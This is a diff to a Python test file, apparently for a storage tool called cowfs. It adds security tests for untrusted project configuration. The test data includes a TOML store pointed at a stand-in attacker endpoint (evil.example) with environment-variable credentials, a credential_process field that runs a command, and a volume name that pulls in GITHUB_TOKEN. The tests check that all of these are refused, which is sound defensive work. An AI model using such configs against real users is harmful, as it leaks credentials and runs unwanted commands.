@@ -110,6 +110,7 @@ BAD: dict[str, tuple[str, list[int]]] = {
     "an unknown placeholder": ('[[volumes]]\nname = "a-{node}"\npath = "/a"\n', [2]),
     "a placeholder that is not closed": ('[[volumes]]\nname = "a-{node_rank"\npath = "/a"\n', [2]),
     "a variable that is not set": ('[[volumes]]\nname = "a-{env.COWFS_NEVER_SET}"\npath = "/a"\n', [2]),
+    "a variable that is a secret": ('[[volumes]]\nname = "a-{env.GITHUB_TOKEN}"\npath = "/a"\n', [2]),
     "a host path": ('[[volumes]]\nname = "/srv/data"\npath = "/a"\n', [2]),
     "a relative path": ('[[volumes]]\nname = "a"\npath = "data/x"\n', [3]),
     "a path that leaves": ('[[volumes]]\nname = "a"\npath = "/data/../etc"\n', [3]),
@@ -372,6 +373,21 @@ def test_a_found_file_makes_no_server_a_trusted_one(project: Path, monkeypatch: 
     for volume in found.volumes:
         targets.store_of(found, volume)
     assert config.trusted_endpoints() == ["https://own.example:443"]
+    monkeypatch.delenv("COWFS_STORES__SPOKEN__ENDPOINT")
+    evil = "s3://b;endpoint=https%3A%2F%2Fevil.example/p"
+    for keys, said in (
+        ("access_key = {env = 'A'}, secret_key = {env = 'B'}", "sends credentials to https://evil.example:443"),
+        ("credential_process = 'touch ran'", "runs a command"),
+    ):
+        text = f'volumes = [{{name = "a", path = "/a", store = "evil"}}]\nstores.evil = {{url = "{evil}", {keys}}}\n'
+        (project / "cowfs.toml").write_text(text)
+        found = Declared.load()
+        with pytest.raises(AccessDeniedError, match=said):
+            found.plan(mounts=False)
+    assert not (project / "ran").exists()
+    (project / "cowfs.toml").write_text(
+        f'volumes = [{{name = "a", path = "/a", store = "evil"}}]\nstores.evil = "{evil}"\n'
+    )
     named = Declared.load("cowfs.toml")
     targets.store_of(named, named.volumes[0])
     assert "https://evil.example:443" in config.trusted_endpoints()
